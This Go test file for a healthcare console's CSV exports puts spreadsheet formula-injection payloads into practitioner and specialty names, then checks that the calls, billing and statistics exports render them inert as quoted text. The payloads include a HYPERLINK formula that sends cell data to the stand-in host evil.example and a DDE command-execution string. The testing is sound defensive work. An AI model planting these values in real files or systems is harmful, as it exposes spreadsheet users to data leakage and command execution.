package console

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
)

// hostile names, as the public directory file or a form may bring them.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1;"cliquez")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"}

// TestEveryExportNeutralisesFormulas: practitioners' names and a specialty
// label that a spreadsheet would run as formulas reach every CSV export as
// text (a leading quote), in the calls list, the billing statement and the
// ARS statistics.
func TestEveryExportNeutralisesFormulas(t *testing.T) {
	env, _, fx := newConsoleEnv(t)
	februaryCalls(t, env, fx)
	seedCalls(t, env)
	ctx := context.Background()
	if _, err := env.pool.Exec(ctx, `UPDATE practitioner SET last_name = $1, first_name = $2`, hostile[0], hostile[1]); err != nil {
		t.Fatal(err)
	}
	if _, err := env.pool.Exec(ctx, `UPDATE specialty SET label = $1 WHERE slug = 'cardiologie'`, hostile[3]); err != nil {
		t.Fatal(err)
	}
	b := env.browser(t)
	b.signIn("coteaux@cpts.example")
	for _, path := range []string{
		"/t/cpts-coteaux/appels.csv",
		"/t/cpts-coteaux/exports/facturation.csv?mois=2026-02",
		"/t/cpts-coteaux/exports/ars.csv?du=2026-01&au=2026-03",
	} {
		a := b.get(path)
		if a.status != 200 {
			t.Fatalf("%s: %d", path, a.status)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff")))
		r.Comma, r.FieldsPerRecord = ';', -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		quoted := 0
		for i, rec := range recs {
			for j, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s line %d cell %d is live: %q", path, i+1, j+1, cell)
				}
				if strings.HasPrefix(cell, "'") {
					quoted++
				}
			}
		}
		if quoted == 0 {
			t.Errorf("%s: no hostile cell at all, the test proves nothing:\n%s", path, a.body)
		}
	}
}
